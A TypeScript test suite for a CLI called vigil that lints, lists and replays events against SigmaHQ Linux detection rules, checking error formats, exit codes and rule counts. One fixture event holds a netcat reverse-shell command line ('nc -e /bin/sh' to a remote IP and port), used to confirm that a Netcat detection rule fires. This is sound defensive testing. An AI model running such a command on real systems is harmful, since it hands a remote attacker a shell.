/**
 * `vigil rules lint|test|list`, run as the real CLI (node bin/vigil after tsc).
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';

const repo = fileURLToPath(new URL('../../', import.meta.url));
const RULES = join(repo, 'test/fixtures/sigma/rules/linux');
const cases: { rule_id: string; positive: object; negative: object }[] = JSON.parse(
  readFileSync(new URL('./fixtures/sigmahq-linux-cases.json', import.meta.url), 'utf8'),
).cases;

function vigil(args: string[]): { code: number; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [join(repo, 'bin/vigil'), ...args], { encoding: 'utf8', timeout: 60_000 });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

let dir: string;
beforeAll(() => {
  // build dist/ (tsc emits even when unrelated files have type errors: the status is not checked here)
  spawnSync(process.execPath, [join(repo, 'node_modules/typescript/bin/tsc'), '-p', join(repo, 'tsconfig.json')], { stdio: 'ignore', timeout: 120_000 });
  dir = mkdtempSync(join(tmpdir(), 'vigil-rules-cli-'));
}, 180_000);

describe('vigil rules lint', () => {
  it('exits 0 on the SigmaHQ linux rules', () => {
    const r = vigil(['rules', 'lint', RULES]);
    expect(r.stderr).toMatch(/210 file\(s\), 210 rule\(s\): 135 active, 75 inactive/);
    expect(r.code).toBe(0);
  });

  it('reports per-file errors with file:line:col and exits 1', () => {
    const bad = join(dir, 'bad');
    mkdirSync(bad);
    writeFileSync(join(bad, 'a_bad.yml'), 'title: t\nid: a\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image|endwith: x\n  condition: sel\n');
    writeFileSync(join(bad, 'b_bad.yml'), 'title: t\nid: b\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel and nope\n');
    writeFileSync(join(bad, 'c_good.yml'), 'title: t\nid: c\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel\n');
    const r = vigil(['rules', 'lint', bad]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`${join(bad, 'a_bad.yml')}:8:5: error: field 'Image|endwith': unknown modifier 'endwith'`);
    expect(r.stdout).toContain(`${join(bad, 'b_bad.yml')}:9:22: error: condition: unknown detection identifier 'nope'`);
    const j = vigil(['rules', 'lint', '--json', bad]);
    expect(j.code).toBe(1);
    const o = JSON.parse(j.stdout);
    expect(o.ok).toBe(false);
    expect(o.errors).toHaveLength(2);
    expect(o.active).toBe(1);
  });

  it('exits 2 on usage errors', () => {
    expect(vigil(['rules', 'lint']).code).toBe(2);
    expect(vigil(['rules', 'test', '--rules', RULES]).code).toBe(2);
    expect(vigil(['rules', 'lint', '--help']).code).toBe(0);
  });
});

describe('vigil rules test', () => {
  it('replays events: one JSON object per match with event_index', () => {
    const lines: string[] = [];
    const expected: [number, string][] = [];
    for (const c of cases.slice(0, 40)) {
      expected.push([lines.length, c.rule_id]);
      lines.push(JSON.stringify(c.positive));
      lines.push(JSON.stringify(c.negative));
    }
    lines.splice(3, 0, ''); // blank lines are skipped but still counted
    for (const e of expected) if (e[0] >= 3) e[0]++;
    const file = join(dir, 'events.jsonl');
    writeFileSync(file, lines.join('\n') + '\n');
    const r = vigil(['rules', 'test', '--rules', RULES, '--events', file, '--json']);
    expect(r.code).toBe(0);
    const matches = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    for (const m of matches) {
      expect(typeof m.rule_id).toBe('string');
      expect(typeof m.rule_title).toBe('string');
      expect(typeof m.level).toBe('string');
      expect(Number.isInteger(m.event_index)).toBe(true);
    }
    for (const [idx, id] of expected) expect(matches.some((m) => m.event_index === idx && m.rule_id === id), `${id} at ${idx}`).toBe(true);
    expect(r.stderr).toMatch(/80 event\(s\) replayed, \d+ alert\(s\)/);
  });

  it('reports unreadable event lines and exits 1', () => {
    const file = join(dir, 'broken.jsonl');
    writeFileSync(file, '{"category":"process_creation","Image":"/usr/bin/nc","CommandLine":"nc -e /bin/sh 1.2.3.4 4444"}\nnot json\n');
    const r = vigil(['rules', 'test', '--rules', RULES, '--events', file]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('broken.jsonl:2: invalid JSON');
    expect(r.stdout).toMatch(/event 0: \[high\] .*Netcat/i);
  });
});

describe('vigil rules list', () => {
  it('lists active rules, and inactive ones on request', () => {
    const r = vigil(['rules', 'list', '--rules', RULES, '--json']);
    expect(r.code).toBe(0);
    const rows = JSON.parse(r.stdout);
    expect(rows).toHaveLength(135);
    const all = JSON.parse(vigil(['rules', 'list', '--rules', RULES, '--json', '--inactive']).stdout);
    expect(all).toHaveLength(210);
    expect(all.find((x: { active: boolean }) => !x.active).reason).toMatch(/no vigil event source/);
    const human = vigil(['rules', 'list', '--rules', RULES]);
    expect(human.stdout).toMatch(/high\s+process_creation\s+\S+\s+Linux Webshell Indicators/);
  });
});
